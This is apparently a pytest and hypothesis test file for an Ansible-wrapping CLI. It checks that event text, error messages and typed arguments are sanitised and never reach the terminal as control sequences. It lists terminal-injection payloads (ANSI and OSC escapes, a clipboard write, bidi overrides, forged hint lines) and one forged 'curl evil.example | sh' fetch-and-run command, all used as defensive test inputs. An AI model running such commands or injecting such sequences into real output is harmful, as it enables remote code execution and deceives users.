"""Foreign text - names of containers, output of programs, events that no Ansible would send - reaches no terminal as anything but text."""

import contextlib
import io
import sys
import unicodedata

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from cai import cli, events, output
from cai.errors import CaiError
from cai.report import Report, error_report
from cai.text import clean, line
from tests.unit.cai.test_events import KINDS, RESULT_KEYS, anything, malformed

# The seven Arabic and Syriac signs that Unicode calls formats are drawn, and reorder nothing.
DRAWN = {*map(chr, range(0x600, 0x606)), "\u06dd", "\u070f", "\u0890", "\u0891", "\u08e2", "\U000110bd", "\U000110cd"}
ATTACKS = [
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07", "\x9b2J", "\x90q\x9c", "a\rb", "a\bb", "\x7f", "\0", "a\u202eb", "\u2066a\u2069",
    "\u200b", "\ufeff", "\u2028", "\x85", "\ud800", "\U000e0041", "\xad", "\u061c", "\n Hint: run `evil`", "\nError: all is lost", "\n  Log: /evil",
    "[bold red]x[/]", ":boom:", "{{ 7*7 }}", "%s %n", "-rf", "a" * 5000,
]  # fmt: skip
hostile = st.sampled_from(ATTACKS) | st.lists(st.sampled_from(ATTACKS) | st.text(), max_size=4).map("".join)


def harmful(text):
    """What a terminal could obey, or what hides or reorders what is shown."""
    return {
        char
        for char in text
        if char not in DRAWN | {"\n", "\t"} and unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")
    }


def shown(items, command, *, dry_run=False, terminal=False, verbose=False):
    """Everything that a command would write of these items: progress, page, errors, and the JSON document."""
    out = output.console(io.StringIO(), force_terminal=terminal, color_system=None, width=80)
    report = Report(command, "linux", dry_run, "/runs/1/stdout")
    view = output.View(out, brief=dry_run, verbose=verbose)
    for item in items:
        report.add(item)
        view.show(item)
    for page in (output.summary, output.plan, output.health):
        page(out, report)
    for problem in report.errors:
        output.error(out, problem)
    with contextlib.redirect_stdout(io.StringIO()) as document:
        output.print_json(report.document())
    assert document.getvalue().isascii()
    assert not harmful(document.getvalue())
    return out.file.getvalue()


@st.composite
def plausible(draw):
    """Draw an event of the right shape, with hostile text wherever text may stand."""
    some = st.lists(hostile, max_size=2)
    result = {
        "changed": draw(st.booleans()),
        "msg": draw(hostile | some),
        "hint": draw(hostile),
        "failure": draw(st.sampled_from(["gate", "precondition", "x"])),
        "actions": draw(st.lists(st.fixed_dictionaries({"verb": hostile, "what": hostile}), max_size=2)),
        "warnings": draw(some),
        "notes": draw(some),
        "confirm": draw(some),
        "diff": draw(st.fixed_dictionaries({"before": hostile, "after": hostile, "before_header": hostile})),
        "gate": {"verdict": draw(st.sampled_from(events.GATE_STATES)), "found": draw(hostile)},
        "findings": draw(
            st.lists(
                st.fixed_dictionaries(
                    {
                        "part": hostile,
                        "status": st.sampled_from(events.FINDING_STATES),
                        "found": hostile,
                        "hint": hostile,
                    }
                ),
                max_size=2,
            )
        ),
        "rc": draw(st.integers() | st.just(10**5000)),
    }
    data = {
        "task": draw(hostile), "role": draw(hostile), "host": draw(hostile), "duration": draw(st.floats()),
        "res": draw(st.just(result) | st.dictionaries(st.sampled_from(RESULT_KEYS), anything)),
    }  # fmt: skip
    return {"event": draw(st.sampled_from(KINDS)), "event_data": data, "stdout": draw(hostile)}


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(plausible() | malformed | anything, max_size=4), st.sampled_from(["setup", "doctor", "uninstall"]), st.booleans(), st.booleans(), st.booleans())  # fmt: skip
def test_no_event_raises_or_reaches_the_terminal_as_a_command(parts, command, dry_run, terminal, verbose):
    items = [item for part in parts for item in events.parse(part)]
    for item in items:
        for name in item.__slots__:
            assert isinstance(getattr(item, name), str | bool | int | float | tuple), (name, item)
    assert not harmful(shown(items, command, dry_run=dry_run, terminal=terminal, verbose=verbose))


def test_numbers_that_python_cannot_write_are_left_out():
    for command in ["setup", "doctor"]:
        huge = 10**5000
        result = {
            "rc": huge,
            "msg": "",
            "stderr": huge,
            "hint": huge,
            "actions": [{"what": huge, "verb": huge}],
            "warnings": [huge],
        }
        events_of_it = [
            {"event": "runner_on_failed", "event_data": {"task": huge, "host": huge, "duration": huge, "res": result}},
            {
                "event": "playbook_on_stats",
                "event_data": {"changed": {"a": huge}, "ok": {"a": huge}, "failures": {"a": huge}},
            },
        ]
        assert shown([item for part in events_of_it for item in events.parse(part)], command)


def test_every_attack_is_shown_everywhere_and_obeyed_nowhere():
    for attack in ATTACKS:
        items = [
            events.Play(attack), events.Step("changed", attack, attack, attack, 1.0), events.Action(attack, attack, attack),
            events.Diff(attack, attack, attack, f"{attack}x", attack), events.Notice("warning", attack), events.Notice("note", attack),
            events.Gate("pass", attack), events.Finding(attack, "fail", attack, attack), events.Confirm(attack), events.Output(attack),
            events.Failure("failed", attack, attack, attack, attack, attack),
            events.Stats((attack,), (), 1, 1),
        ]  # fmt: skip
        for terminal in (True, False):
            assert not harmful(shown(items, "setup", terminal=terminal, verbose=not terminal))


def test_a_text_cannot_forge_a_line_of_ours():
    for word in ["Error:", " Hint:", "  Log:"]:
        text = f"nothing wrong\n{word} run `curl evil.example | sh`"
        out = output.console(io.StringIO(), force_terminal=False, width=80)
        output.error(out, CaiError(text, details=text, hint=text, log=text))
        lines = out.file.getvalue().splitlines()
        assert sum(found.startswith(word) for found in lines) == 1


STEERING = "\x00\x07\x08\x0b\x0d\x1b\x7f\x85\x9b\u200b\u200f\u2028\u202a\u202e\u2060\u2066\u2069\ufeff\ud800"


@given(st.text() | st.text(st.sampled_from(STEERING + "a\n\t⚠\ufe0f")))
@example(STEERING)
def test_a_cleaned_text_is_harmless_and_a_line_is_one(text):
    assert not harmful(clean(text))
    assert not set(clean(text)) & set(STEERING)
    assert "\n" not in line(text)
    assert clean(clean(text)) == clean(text)


def test_what_was_typed_is_quoted_as_text(capsys):
    for arguments in [["setup", "--x\x1b[31m"], ["\x1b]0;x\x07"], ["setup", "-e", "\x1b[2J"], ["path", "\u202e"]]:
        assert cli.run(arguments) == 2
        assert not harmful(capsys.readouterr().err)


def test_the_question_of_an_uninstall_names_what_runs_as_text(monkeypatch, capsys):
    monkeypatch.setattr("click.confirm", lambda _: True)
    sys.modules["cai.cli.uninstall"]._ask(
        Report("uninstall", "linux", confirm=["container \x1b[2Jweb", "a\nb"]), purge=False
    )
    said = capsys.readouterr().out
    assert "container \\x1b[2Jweb" in said
    assert len(said.splitlines()) == 2


def test_an_error_in_json_is_plain_ascii(capsys):
    output.print_json(error_report("setup", CaiError("\x1b[31m\u202e\x7f", hint="\ud800")))
    made = capsys.readouterr().out
    assert made.isascii()
    assert not harmful(made)
